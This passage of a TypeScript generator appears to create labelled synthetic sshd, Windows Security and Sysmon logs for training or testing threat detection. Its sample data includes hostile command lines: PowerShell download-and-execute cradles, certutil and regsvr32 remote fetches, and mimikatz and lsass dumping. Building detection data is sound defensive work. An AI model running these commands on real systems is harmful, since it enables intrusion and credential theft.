import { ATTACK_USERS, epochTime, Gen, shuffleKeys, sqlTime, syslogPrefix, windowsTime } from './common.ts';
import type { Generated, Scenario } from './common.ts';

// ---------------------------------------------------------------- sshd

function sshLine(g: Gen, host: string, pid: number, msg: string): string {
  return `${syslogPrefix(g, host, 'sshd', pid)} ${msg}`;
}
const keyType = (g: Gen) => g.pick(['RSA', 'ED25519', 'ECDSA']);

export function sshdScenarios(): Scenario[] {
  const source = 'sshd' as const;
  return [
    {
      name: 'sshd-benign-session', source, category: 'benign', threatType: 'Normal SSH session', technique: null, tactic: null, severity: 'LOW', count: 70,
      make: (g) => {
        const host = g.linuxHost();
        const pid = g.pid();
        const user = g.pick(['deploy', 'ansible', 'alice', 'bob', 'jenkins', 'backup', 'ubuntu']);
        const ip = g.ipInternal();
        const port = g.port();
        const out: string[] = [];
        const method = g.chance(0.8) ? `publickey for ${user} from ${ip} port ${port} ssh2: ${keyType(g)} SHA256:${g.b64(32).replace(/=+$/, '')}` : `password for ${user} from ${ip} port ${port} ssh2`;
        out.push(sshLine(g, host, pid, `Accepted ${method}`));
        g.tick(0, 50);
        out.push(sshLine(g, host, pid, `pam_unix(sshd:session): session opened for user ${user}(uid=${g.int(1000, 1010)}) by (uid=0)`));
        if (g.chance(0.6)) {
          g.tick(10_000, 3_600_000);
          out.push(sshLine(g, host, pid, `Received disconnect from ${ip} port ${port}:11: disconnected by user`));
          out.push(sshLine(g, host, pid, `pam_unix(sshd:session): session closed for user ${user}`));
        }
        return out.join('\n');
      },
    },
    {
      name: 'sshd-benign-noise', source, category: 'benign', threatType: 'Routine sshd messages', technique: null, tactic: null, severity: 'LOW', count: 40,
      make: (g) => {
        const host = g.linuxHost();
        return sshLine(g, host, g.pid(), g.pick([
          `Server listening on 0.0.0.0 port 22.`,
          `Server listening on :: port 22.`,
          `Received signal 15; terminating.`,
          `Connection closed by authenticating user ${g.pick(['deploy', 'ansible'])} ${g.ipInternal()} port ${g.port()} [preauth]`,
          `Disconnected from user ${g.pick(['deploy', 'alice', 'bob'])} ${g.ipInternal()} port ${g.port()}`,
          `Timeout, client not responding from user ${g.pick(['alice', 'carol'])} ${g.ipInternal()} port ${g.port()}`,
        ]));
      },
    },
    {
      name: 'sshd-password-bruteforce', source, category: 'brute-force', threatType: 'SSH password brute force', technique: 'T1110.001', tactic: 'credential-access', severity: 'HIGH', count: 60,
      make: (g): Generated => {
        const host = g.linuxHost();
        const ip = g.ipExternal();
        const user = g.pick(ATTACK_USERS);
        const invalid = !['root', 'ubuntu', 'git'].includes(user) && g.chance(0.7);
        const out: string[] = [];
        const n = g.int(5, 16);
        let pid = g.pid();
        for (let i = 0; i < n; i++) {
          g.tick(300, 4000);
          if (i % 3 === 0) pid = g.pid();
          if (invalid && i % 3 === 0) out.push(sshLine(g, host, pid, `Invalid user ${user} from ${ip} port ${g.port()}`));
          out.push(sshLine(g, host, pid, `Failed password for ${invalid ? 'invalid user ' : ''}${user} from ${ip} port ${g.port()} ssh2`));
        }
        if (g.chance(0.4)) out.push(sshLine(g, host, pid, `Disconnecting ${invalid ? 'invalid' : 'authenticating'} user ${user} ${ip} port ${g.port()}: Too many authentication failures [preauth]`));
        if (g.chance(0.3)) out.push(sshLine(g, host, pid, `PAM ${g.int(2, 5)} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}${invalid ? '' : `  user=${user}`}`));
        const success = !invalid && g.chance(0.3);
        if (success) {
          g.tick(500, 3000);
          out.push(sshLine(g, host, pid, `Accepted password for ${user} from ${ip} port ${g.port()} ssh2`));
        }
        return { log: out.join('\n'), severity: success ? 'CRITICAL' : 'HIGH' };
      },
    },
    {
      name: 'sshd-password-spraying', source, category: 'brute-force', threatType: 'SSH password spraying over many accounts', technique: 'T1110.003', tactic: 'credential-access', severity: 'HIGH', count: 35,
      make: (g) => {
        const host = g.linuxHost();
        const ip = g.ipExternal();
        return g.rng.shuffle(ATTACK_USERS).slice(0, g.int(5, 12)).map((u) => {
          g.tick(1000, 20000);
          const pid = g.pid();
          return g.chance(0.5) ? `${sshLine(g, host, pid, `Invalid user ${u} from ${ip} port ${g.port()}`)}\n${sshLine(g, host, pid, `Failed password for invalid user ${u} from ${ip} port ${g.port()} ssh2`)}` : sshLine(g, host, pid, `Failed password for invalid user ${u} from ${ip} port ${g.port()} ssh2`);
        }).join('\n');
      },
    },
    {
      name: 'sshd-scan', source, category: 'reconnaissance', threatType: 'SSH service scanning / banner grabbing', technique: 'T1595.001', tactic: 'reconnaissance', severity: 'LOW', count: 40,
      make: (g) => {
        const host = g.linuxHost();
        const ip = g.ipExternal();
        return Array.from({ length: g.int(1, 5) }, () => {
          g.tick(0, 3000);
          return sshLine(g, host, g.pid(), g.pick([
            `Did not receive identification string from ${ip} port ${g.port()}`,
            `Connection closed by ${ip} port ${g.port()} [preauth]`,
            `Unable to negotiate with ${ip} port ${g.port()}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1,diffie-hellman-group14-sha1 [preauth]`,
            `banner exchange: Connection from ${ip} port ${g.port()}: invalid format`,
            `Protocol major versions differ for ${ip} port ${g.port()}: SSH-2.0-OpenSSH_8.9 vs. SSH-1.5-Nmap-SSH1-Hostkey`,
            `error: kex_exchange_identification: Connection closed by remote host`,
          ]));
        }).join('\n');
      },
    },
    {
      name: 'sshd-internal-lateral', source, category: 'lateral-movement', threatType: 'SSH lateral movement between internal hosts', technique: 'T1021.004', tactic: 'lateral-movement', severity: 'HIGH', count: 35,
      make: (g) => {
        const out: string[] = [];
        const src = g.ipInternal();
        const user = g.pick(['root', 'svc_backup', 'admin', 'ubuntu']);
        for (const host of g.rng.shuffle(['db-01', 'backup-01', 'k8s-node-7', 'api-prod-3', 'mail', 'ci-runner-2']).slice(0, g.int(2, 5))) {
          g.tick(2000, 60000);
          const pid = g.pid();
          out.push(sshLine(g, host, pid, `Accepted ${g.chance(0.5) ? 'password' : `publickey`} for ${user} from ${src} port ${g.port()} ssh2`));
          out.push(sshLine(g, host, pid, `pam_unix(sshd:session): session opened for user ${user}(uid=${user === 'root' ? 0 : g.int(1000, 1005)}) by (uid=0)`));
        }
        return out.join('\n');
      },
    },
  ];
}

// ---------------------------------------------------------------- Windows event rendering

/**
 * A Windows event in one of two common shipper renderings: Splunk's WinEventLog text block, or an
 * NXLog-style JSON line (whose key order is not fixed, so it is shuffled).
 */
function winEvent(g: Gen, channel: string, provider: string, eventId: number, computer: string, message: string, fields: [string, string | number][], json: boolean, keywords = 'Audit Success'): string {
  if (json) {
    const obj: Record<string, unknown> = { EventTime: sqlTime(g.t).slice(0, 19), Hostname: computer, Keywords: keywords, EventID: eventId, SourceName: provider, Channel: channel, RecordNumber: g.int(100000, 9999999) };
    for (const [k, v] of fields) obj[k] = v;
    obj.Message = message.split('\n')[0];
    return JSON.stringify(shuffleKeys(g, obj));
  }
  const head = [
    windowsTime(g.t),
    `LogName=${channel}`,
    `EventCode=${eventId}`,
    `EventType=0`,
    `ComputerName=${computer}`,
    `SourceName=${provider}`,
    `Type=Information`,
    `RecordNumber=${g.int(100000, 9999999)}`,
    `Keywords=${keywords}`,
    `Message=${message}`,
  ];
  return [...head, ...fields.map(([k, v]) => `${k}: ${v}`)].join('\n');
}

const SEC = 'Security';
const SEC_PROVIDER = 'Microsoft Windows security auditing.';

export function windowsScenarios(): Scenario[] {
  const source = 'windows-security' as const;
  // One record describes one machine (and one domain controller).
  const dc = (g: Gen) => g.sticky('dc', () => `${g.pick(['DC01', 'DC02'])}.${g.domain()}`);
  const ws = (g: Gen) => g.sticky('ws', () => `${g.host()}.${g.domain()}`);
  const logon = (g: Gen, type: number, user: string, ip: string, auth: string, json: boolean, computer: string) =>
    winEvent(g, SEC, SEC_PROVIDER, 4624, computer, 'An account was successfully logged on.', [
      ['Subject Security ID', 'S-1-0-0'], ['Logon Type', type], ['Account Name', user], ['Account Domain', 'CORP'], ['Logon ID', `0x${g.hex(6)}`],
      ['Workstation Name', g.host()], ['Source Network Address', ip], ['Source Port', g.port()], ['Logon Process', auth === 'NTLM' ? 'NtLmSsp' : 'Kerberos'], ['Authentication Package', auth],
    ], json);
  return [
    {
      name: 'win-benign-logon', source, category: 'benign', threatType: 'Normal interactive or network logon', technique: null, tactic: null, severity: 'LOW', count: 70,
      make: (g) => {
        const json = g.chance(0.4);
        const u = g.user();
        const type = g.weighted([[2, 3], [3, 4], [7, 2], [11, 1]] as const);
        const out = [logon(g, type, u, type === 2 || type === 7 ? '-' : g.ipInternal(), 'Kerberos', json, ws(g))];
        if (g.chance(0.4)) {
          g.tick(60_000, 8 * 3_600_000);
          out.push(winEvent(g, SEC, SEC_PROVIDER, 4634, ws(g), 'An account was logged off.', [['Account Name', u], ['Account Domain', 'CORP'], ['Logon Type', type]], json));
        }
        return out.join('\n');
      },
    },
    {
      name: 'win-benign-admin', source, category: 'benign', threatType: 'Routine administrative activity', technique: null, tactic: null, severity: 'LOW', count: 45,
      make: (g) => {
        const json = g.chance(0.4);
        const k = g.int(0, 3);
        if (k === 0) return winEvent(g, SEC, SEC_PROVIDER, 4672, ws(g), 'Special privileges assigned to new logon.', [['Account Name', g.pick(['SYSTEM', 'svc_sql', 'it.admin'])], ['Privileges', 'SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege']], json);
        if (k === 1) return winEvent(g, SEC, SEC_PROVIDER, 4688, ws(g), 'A new process has been created.', [['New Process Name', g.pick(['C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\taskhostw.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE'])], ['Creator Process Name', 'C:\\Windows\\explorer.exe'], ['Account Name', g.user()]], json);
        if (k === 2) return winEvent(g, SEC, SEC_PROVIDER, 4768, dc(g), 'A Kerberos authentication ticket (TGT) was requested.', [['Account Name', g.user()], ['Client Address', `::ffff:${g.ipInternal()}`], ['Ticket Encryption Type', '0x12'], ['Result Code', '0x0']], json);
        return winEvent(g, SEC, SEC_PROVIDER, 4625, ws(g), 'An account failed to log on.', [['Account Name', g.user()], ['Logon Type', 2], ['Failure Reason', 'Unknown user name or bad password.'], ['Status', '0xC000006D'], ['Sub Status', '0xC000006A'], ['Source Network Address', '-']], json, 'Audit Failure');
      },
    },
    {
      name: 'win-4625-burst', source, category: 'brute-force', threatType: 'Windows logon brute force (4625 burst)', technique: 'T1110.001', tactic: 'credential-access', severity: 'HIGH', count: 50,
      make: (g): Generated => {
        const json = g.chance(0.7);
        const target = g.pick(['administrator', 'admin', g.user()]);
        const ip = g.chance(0.6) ? g.ipExternal() : g.ipInternal();
        const host = g.pick(['SRV-APP-01', 'JUMP-01', 'SRV-FILE-02', 'EXCH01']);
        const type = g.pick([3, 10]);
        const n = g.int(5, 12);
        const domain = g.chance(0.5) ? 'CORP' : host;
        const workstation = g.pick(['-', 'kali', 'WIN-' + g.alnum(6).toUpperCase()]);
        const out: string[] = [];
        for (let i = 0; i < n; i++) {
          g.tick(200, 3000);
          out.push(winEvent(g, SEC, SEC_PROVIDER, 4625, host, 'An account failed to log on.', [['Account Name', target], ['Account Domain', domain], ['Logon Type', type], ['Failure Reason', 'Unknown user name or bad password.'], ['Status', '0xC000006D'], ['Sub Status', '0xC000006A'], ['Workstation Name', workstation], ['Source Network Address', ip], ['Source Port', g.port()]], json, 'Audit Failure'));
        }
        const success = g.chance(0.25);
        if (success) out.push(logon(g, type, target, ip, 'NTLM', json, host));
        return { log: out.join('\n'), severity: success ? 'CRITICAL' : 'HIGH' };
      },
    },
    {
      name: 'win-kerberos-spray', source, category: 'brute-force', threatType: 'Password spraying against Kerberos (4771)', technique: 'T1110.003', tactic: 'credential-access', severity: 'HIGH', count: 25,
      make: (g) => {
        const ip = g.ipInternal();
        const host = dc(g);
        return g.rng.shuffle([...new Set([g.user(), g.user(), g.user(), g.user(), g.user(), g.user(), g.user()])]).map((u) => {
          g.tick(100, 2000);
          return winEvent(g, SEC, SEC_PROVIDER, 4771, host, 'Kerberos pre-authentication failed.', [['Account Name', u], ['Service Name', 'krbtgt/CORP'], ['Client Address', `::ffff:${ip}`], ['Failure Code', '0x18'], ['Pre-Authentication Type', 2]], true, 'Audit Failure');
        }).join('\n');
      },
    },
    {
      name: 'win-kerberoasting', source, category: 'credential-dumping', threatType: 'Kerberoasting (RC4 service tickets)', technique: 'T1558.003', tactic: 'credential-access', severity: 'HIGH', count: 30,
      make: (g) => {
        const json = g.chance(0.5);
        const u = g.user();
        const ip = g.ipInternal();
        const host = dc(g);
        return g.rng.shuffle(['MSSQLSvc/sql01.corp.local:1433', 'HTTP/intranet.corp.local', 'svc_backup', 'CIFS/fs02.corp.local', 'svc_sql', 'exchangeAB/EXCH01']).slice(0, g.int(2, 5)).map((svc) => {
          g.tick(10, 400);
          return winEvent(g, SEC, SEC_PROVIDER, 4769, host, 'A Kerberos service ticket was requested.', [['Account Name', `${u}@CORP.LOCAL`], ['Service Name', svc], ['Client Address', `::ffff:${ip}`], ['Ticket Options', '0x40810000'], ['Ticket Encryption Type', '0x17'], ['Failure Code', '0x0']], json);
        }).join('\n');
      },
    },
    {
      name: 'win-dcsync', source, category: 'credential-dumping', threatType: 'DCSync (directory replication by a non-DC)', technique: 'T1003.006', tactic: 'credential-access', severity: 'CRITICAL', count: 20,
      make: (g) => winEvent(g, SEC, SEC_PROVIDER, 4662, dc(g), 'An operation was performed on an object.', [
        ['Account Name', g.pick([g.user(), 'it.admin', 'svc_backup'])], ['Account Domain', 'CORP'], ['Object Server', 'DS'], ['Object Type', '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}'],
        ['Object Name', '%{' + g.guid() + '}'], ['Access Mask', '0x100'], ['Properties', `%%7688 {${g.pick(['1131f6aa-9c07-11d1-f79f-00c04fc2dcd2', '1131f6ad-9c07-11d1-f79f-00c04fc2dcd2', '89e95b76-444d-4c62-991a-0facbeda640c'])}}`],
        ['Source Workstation', g.pick(['WS-0142', 'LAPTOP-7F3K2', 'DEV-WS-55'])],
      ], g.chance(0.5)),
    },
    {
      name: 'win-scheduled-task', source, category: 'persistence', threatType: 'Scheduled task created (4698)', technique: 'T1053.005', tactic: 'persistence', severity: 'HIGH', count: 40,
      make: (g) => {
        const task = g.pick(['\\Microsoft\\Windows\\UpdateCheck', '\\GoogleUpdateTaskMachineCore' + g.alnum(3), '\\OneDrive Sync ' + g.int(1, 9), '\\SystemHealth', '\\' + g.alnum(8)]);
        const cmd = g.pick([
          `powershell.exe -w hidden -nop -enc ${g.b64(60)}`, `C:\\Users\\${g.user()}\\AppData\\Roaming\\${g.alnum(6)}.exe`, `cmd.exe /c rundll32.exe C:\\ProgramData\\${g.alnum(5)}.dll,Start`,
          `mshta.exe http://${g.ipExternal()}/p.hta`, `C:\\Windows\\Temp\\svchost.exe -k netsvcs`,
        ]);
        return winEvent(g, SEC, SEC_PROVIDER, 4698, ws(g), 'A scheduled task was created.', [['Account Name', g.pick([g.user(), 'SYSTEM'])], ['Task Name', task], ['Task Content', `<Exec><Command>${cmd.split(' ')[0]}</Command><Arguments>${cmd.split(' ').slice(1).join(' ')}</Arguments></Exec>`], ['Trigger', g.pick(['LogonTrigger', 'TimeTrigger PT15M', 'BootTrigger'])]], g.chance(0.5));
      },
    },
    {
      name: 'win-user-created', source, category: 'persistence', threatType: 'Local account created (4720)', technique: 'T1136.001', tactic: 'persistence', severity: 'HIGH', count: 30,
      make: (g) => {
        const json = g.chance(0.5);
        const host = ws(g);
        const newUser = g.pick(['support_tmp', 'helpdesk', 'adm1n', 'backup$', 'sql_svc2', 'defaultuser1', g.alnum(7)]);
        const out = [winEvent(g, SEC, SEC_PROVIDER, 4720, host, 'A user account was created.', [['Subject Account Name', g.pick(['administrator', g.user()])], ['New Account Name', newUser], ['SAM Account Name', newUser], ['User Account Control', '%%2080 %%2082 %%2084']], json)];
        if (g.chance(0.5)) out.push(winEvent(g, SEC, SEC_PROVIDER, 4722, host, 'A user account was enabled.', [['Target Account Name', newUser]], json));
        return out.join('\n');
      },
    },
    {
      name: 'win-service-installed', source, category: 'persistence', threatType: 'New service installed (7045 / 4697)', technique: 'T1543.003', tactic: 'persistence', severity: 'HIGH', count: 30,
      make: (g) => {
        const path = g.pick([`%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc ${g.b64(48)}`, `C:\\Windows\\${g.alnum(8)}.exe`, `\\\\127.0.0.1\\ADMIN$\\${g.alnum(7)}.exe`, `C:\\ProgramData\\${g.alnum(6)}\\svc.exe -service`]);
        return winEvent(g, SEC, SEC_PROVIDER, 4697, ws(g), 'A service was installed in the system.', [['Account Name', g.pick(['SYSTEM', g.user()])], ['Service Name', g.pick(['WinDefendUpd', 'RemoteSvc', g.alnum(8), 'PSEXESVC', 'UpdateOrchestratorX'])], ['Service File Name', path], ['Service Type', '0x10'], ['Service Start Type', 2]], g.chance(0.5));
      },
    },
    {
      name: 'win-admin-group-add', source, category: 'privilege-escalation', threatType: 'Account added to a privileged group (4732 / 4728)', technique: 'T1098.007', tactic: 'privilege-escalation', severity: 'HIGH', count: 30,
      make: (g) => {
        const local = g.chance(0.5);
        return winEvent(g, SEC, SEC_PROVIDER, local ? 4732 : 4728, local ? ws(g) : dc(g), local ? 'A member was added to a security-enabled local group.' : 'A member was added to a security-enabled global group.', [
          ['Subject Account Name', g.user()], ['Member Account Name', `CN=${g.user()},OU=Users,DC=corp,DC=local`], ['Group Name', local ? 'Administrators' : g.pick(['Domain Admins', 'Enterprise Admins', 'Schema Admins'])], ['Group Domain', local ? 'Builtin' : 'CORP'],
        ], g.chance(0.5));
      },
    },
    {
      name: 'win-log-cleared', source, category: 'defense-evasion', threatType: 'Security audit log cleared (1102)', technique: 'T1070.001', tactic: 'defense-evasion', severity: 'HIGH', count: 30,
      make: (g) => winEvent(g, SEC, 'Microsoft-Windows-Eventlog', 1102, ws(g), 'The audit log was cleared.', [['Subject Security ID', `S-1-5-21-${g.int(1e8, 4e9)}-${g.int(1e8, 4e9)}-${g.int(1000, 9999)}`], ['Account Name', g.pick([g.user(), 'administrator'])], ['Domain Name', 'CORP'], ['Logon ID', `0x${g.hex(6)}`]], g.chance(0.5)),
    },
    {
      name: 'win-audit-policy-change', source, category: 'defense-evasion', threatType: 'Audit policy disabled (4719)', technique: 'T1562.002', tactic: 'defense-evasion', severity: 'HIGH', count: 20,
      make: (g) => winEvent(g, SEC, SEC_PROVIDER, 4719, ws(g), 'System audit policy was changed.', [['Account Name', g.user()], ['Category', g.pick(['Logon/Logoff', 'Object Access', 'Detailed Tracking', 'Policy Change'])], ['Subcategory', g.pick(['Logon', 'Process Creation', 'File System', 'Audit Policy Change'])], ['Changes', 'Success removed, Failure removed']], g.chance(0.5)),
    },
    {
      name: 'win-pass-the-hash', source, category: 'lateral-movement', threatType: 'Pass-the-hash network logon (NTLM, type 3)', technique: 'T1550.002', tactic: 'lateral-movement', severity: 'HIGH', count: 30,
      make: (g) => winEvent(g, SEC, SEC_PROVIDER, 4624, `${g.pick(['SRV-FILE-02', 'SRV-SQL-01', 'SRV-APP-01', 'EXCH01'])}.${g.domain()}`, 'An account was successfully logged on.', [
        ['Logon Type', 3], ['Account Name', g.pick(['administrator', 'it.admin', g.user()])], ['Account Domain', 'CORP'], ['Logon Process', 'NtLmSsp'], ['Authentication Package', 'NTLM'],
        ['Package Name (NTLM only)', 'NTLM V2'], ['Key Length', 0], ['Workstation Name', g.host()], ['Source Network Address', g.ipInternal()], ['Impersonation Level', 'Impersonation'], ['Elevated Token', 'Yes'],
      ], g.chance(0.5)),
    },
    {
      name: 'win-rdp-lateral', source, category: 'lateral-movement', threatType: 'RDP logon from an internal workstation', technique: 'T1021.001', tactic: 'lateral-movement', severity: 'MEDIUM', count: 25,
      make: (g) => logon(g, 10, g.pick(['administrator', g.user()]), g.ipInternal(), 'Negotiate', g.chance(0.5), `${g.pick(['SRV-APP-01', 'SRV-SQL-01', 'DC01', 'SRV-FILE-02'])}.${g.domain()}`),
    },
    {
      name: 'win-admin-share', source, category: 'lateral-movement', threatType: 'Remote admin share access (5140 / 5145)', technique: 'T1021.002', tactic: 'lateral-movement', severity: 'HIGH', count: 25,
      make: (g) => {
        const ip = g.ipInternal();
        const host = ws(g);
        return [5140, 5145].map((id) => winEvent(g, SEC, SEC_PROVIDER, id, host, id === 5140 ? 'A network share object was accessed.' : 'A network share object was checked to see whether client can be granted desired access.', [['Account Name', g.pick(['administrator', g.user()])], ['Source Address', ip], ['Share Name', g.pick(['\\\\*\\ADMIN$', '\\\\*\\C$', '\\\\*\\IPC$'])], ['Relative Target Name', id === 5145 ? g.pick(['PSEXESVC.exe', `${g.alnum(8)}.exe`, 'svcctl']) : '-']], g.chance(0.5))).join('\n');
      },
    },
  ];
}

// ---------------------------------------------------------------- Sysmon

function sysmon(g: Gen, eventId: number, title: string, fields: [string, string | number][], json: boolean): string {
  if (json) {
    const obj: Record<string, unknown> = { EventID: eventId, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: g.sticky('computer', () => `${g.host()}.corp.local`), UtcTime: sqlTime(g.t) };
    for (const [k, v] of fields) obj[k] = v;
    return JSON.stringify(shuffleKeys(g, obj));
  }
  return [`${title}:`, 'RuleName: -', `UtcTime: ${sqlTime(g.t)}`, ...fields.map(([k, v]) => `${k}: ${v}`)].join('\n');
}

function processCreate(g: Gen, image: string, cmd: string, parent: string, user: string, json = g.chance(0.5)): string {
  return sysmon(g, 1, 'Process Create', [
    ['ProcessGuid', `{${g.guid()}}`], ['ProcessId', g.pid()], ['Image', image], ['CommandLine', cmd], ['CurrentDirectory', `C:\\Users\\${user}\\`],
    ['User', `CORP\\${user}`], ['IntegrityLevel', g.pick(['Medium', 'High'])], ['Hashes', `SHA256=${g.hex(64).toUpperCase()}`], ['ParentImage', parent],
  ], json);
}

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

export function sysmonScenarios(): Scenario[] {
  const source = 'sysmon' as const;
  return [
    {
      name: 'sysmon-benign-process', source, category: 'benign', threatType: 'Normal process activity', technique: null, tactic: null, severity: 'LOW', count: 60,
      make: (g) => {
        const u = g.user();
        const [img, cmd, parent] = g.pick([
          ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
          ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
          ['C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde', 'C:\\Windows\\explorer.exe'],
          ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\Public\\notes.txt', 'C:\\Windows\\explorer.exe'],
          ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe pull --ff-only', 'C:\\Windows\\System32\\cmd.exe'],
          ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -File C:\\Scripts\\Backup-Logs.ps1', 'C:\\Windows\\System32\\svchost.exe'],
          ['C:\\Program Files\\Microsoft VS Code\\Code.exe', '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility', 'C:\\Windows\\explorer.exe'],
        ] as const);
        return processCreate(g, img, cmd, parent, u);
      },
    },
    {
      name: 'sysmon-benign-network', source, category: 'benign', threatType: 'Normal network connection', technique: null, tactic: null, severity: 'LOW', count: 40,
      make: (g) => sysmon(g, 3, 'Network connection detected', [
        ['Image', g.pick(['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe'])],
        ['User', `CORP\\${g.user()}`], ['Protocol', 'tcp'], ['Initiated', 'true'], ['SourceIp', g.ipInternal()], ['SourcePort', g.port()], ['DestinationIp', g.ipExternal()], ['DestinationHostname', g.pick(['outlook.office365.com', 'www.google.com', 'login.microsoftonline.com', 'onedrive.live.com', '-'])], ['DestinationPort', g.pick([443, 443, 80])],
      ], g.chance(0.5)),
    },
    {
      name: 'sysmon-lsass-access', source, category: 'credential-dumping', threatType: 'LSASS memory access (credential dumping)', technique: 'T1003.001', tactic: 'credential-access', severity: 'CRITICAL', count: 45,
      make: (g) => {
        if (g.chance(0.4)) {
          const u = g.user();
          return processCreate(g, g.pick(['C:\\Windows\\System32\\rundll32.exe', 'C:\\Users\\Public\\procdump64.exe', `C:\\Users\\${u}\\Downloads\\mimikatz.exe`]), g.pick([
            `rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ${g.int(500, 900)} C:\\Windows\\Temp\\${g.alnum(5)}.dmp full`,
            `procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp`,
            `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
          ]), g.pick(['C:\\Windows\\System32\\cmd.exe', PS]), u);
        }
        return sysmon(g, 10, 'Process accessed', [
          ['SourceProcessGUID', `{${g.guid()}}`], ['SourceImage', g.pick(['C:\\Users\\Public\\mimikatz.exe', 'C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\Temp\\' + g.alnum(6) + '.exe', PS])],
          ['TargetImage', 'C:\\Windows\\system32\\lsass.exe'], ['GrantedAccess', g.pick(['0x1010', '0x1410', '0x1FFFFF', '0x143A'])],
          ['CallTrace', `C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000000${g.hex(8).toUpperCase()})`],
        ], g.chance(0.5));
      },
    },
    {
      name: 'sysmon-encoded-powershell', source, category: 'malicious-execution', threatType: 'Encoded / hidden PowerShell execution', technique: 'T1059.001', tactic: 'execution', severity: 'HIGH', count: 45,
      make: (g) => {
        const u = g.user();
        const flags = g.rng.shuffle(['-nop', '-w hidden', '-ep bypass', '-noni']).slice(0, g.int(1, 4)).join(' ');
        const enc = g.pick(['-enc', '-EncodedCommand', '-e', '-eNc']);
        const cmd = g.chance(0.7) ? `powershell.exe ${flags} ${enc} ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${g.ipExternal()}/${g.alnum(4)}.ps1')`, 'utf16le').toString('base64')}` : `powershell.exe ${flags} -c "IEX(IWR -useb http://${g.ipExternal()}:${g.pick([80, 8080, 443])}/${g.alnum(5)})"`;
        return processCreate(g, PS, cmd, g.pick(['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\wscript.exe', 'C:\\Windows\\explorer.exe']), u);
      },
    },
    {
      name: 'sysmon-office-child', source, category: 'malicious-execution', threatType: 'Office application spawning a shell (malicious document)', technique: 'T1204.002', tactic: 'execution', severity: 'HIGH', count: 30,
      make: (g) => processCreate(g, g.pick(['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\wscript.exe', 'C:\\Windows\\System32\\mshta.exe', PS]), g.pick([
        `cmd.exe /c certutil -urlcache -split -f http://${g.ipExternal()}/inv.exe %TEMP%\\inv.exe && %TEMP%\\inv.exe`,
        `wscript.exe C:\\Users\\Public\\${g.alnum(6)}.vbs`,
        `mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -w hidden""")`,
        `cmd.exe /c start /b regsvr32 /s /n /u /i:http://${g.ipExternal()}/file.sct scrobj.dll`,
      ]), g.pick(['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE']), g.user()),
    },
    {
      name: 'sysmon-wmi-exec', source, category: 'malicious-execution', threatType: 'Process started through WMI', technique: 'T1047', tactic: 'execution', severity: 'HIGH', count: 20,
      make: (g) => processCreate(g, g.pick(['C:\\Windows\\System32\\cmd.exe', PS]), g.pick([`cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__${g.int(1e9, 2e9)}.${g.int(1000, 9999)} 2>&1`, `wmic /node:${g.ipInternal()} process call create "cmd.exe /c whoami > C:\\Temp\\o.txt"`, `powershell.exe -nop -c Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc.exe`]), 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', g.user()),
    },
    {
      name: 'sysmon-run-key', source, category: 'persistence', threatType: 'Registry Run key persistence', technique: 'T1547.001', tactic: 'persistence', severity: 'HIGH', count: 35,
      make: (g) => sysmon(g, 13, 'Registry value set', [
        ['EventType', 'SetValue'], ['Image', g.pick([PS, 'C:\\Windows\\System32\\reg.exe', `C:\\Users\\${g.user()}\\AppData\\Local\\Temp\\${g.alnum(6)}.exe`])],
        ['TargetObject', `${g.pick(['HKU\\S-1-5-21-' + g.int(1e8, 4e9) + '-' + g.int(1000, 9999), 'HKLM'])}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\${g.pick(['Run', 'RunOnce'])}\\${g.pick(['OneDriveUpdate', 'SecurityHealth', g.alnum(7)])}`],
        ['Details', g.pick([`C:\\Users\\Public\\${g.alnum(6)}.exe`, `powershell -w hidden -enc ${g.b64(40)}`, `rundll32.exe C:\\ProgramData\\${g.alnum(5)}.dll,DllRegisterServer`])],
      ], g.chance(0.5)),
    },
    {
